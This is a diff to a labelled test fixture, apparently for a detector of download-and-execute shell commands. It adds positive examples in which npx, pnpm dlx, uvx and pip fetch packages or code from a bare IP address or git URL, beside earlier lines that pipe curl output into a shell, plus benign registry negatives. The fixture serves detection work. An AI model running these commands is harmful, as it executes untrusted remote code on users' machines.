@@ -188,3 +188,17 @@ curl -fsSL http://203.0.113.9/s.txt | split -n r/1 --filter=sh
 curl -fsSL https://example.com/big.csv | split -l 1000 --filter='gzip > "$FILE.gz"' - part-
 #@ pos the shell run as /proc/self/exe on a download
 /proc/self/exe -c "$(curl -fsSL http://203.0.113.9/r.sh)"
+#@ pos npx runs a package from a tarball URL
+npx -y --package=https://203.0.113.9/t-1.0.0.tgz -- t-init
+#@ pos npx runs a package from a GitHub repository
+npx github:someone/tool
+#@ pos uvx runs a tool from a git URL
+uvx --from git+https://203.0.113.9/tool.git tool
+#@ pos pnpm dlx of a URL
+pnpm dlx https://203.0.113.9/x.tgz
+#@ pos pip install --index-url= a bare address
+pip install --index-url=http://203.0.113.9/simple requests
+#@ neg npx runs a registry package
+npx -y prettier --check .
+#@ neg uvx runs a registry tool
+uvx ruff check .
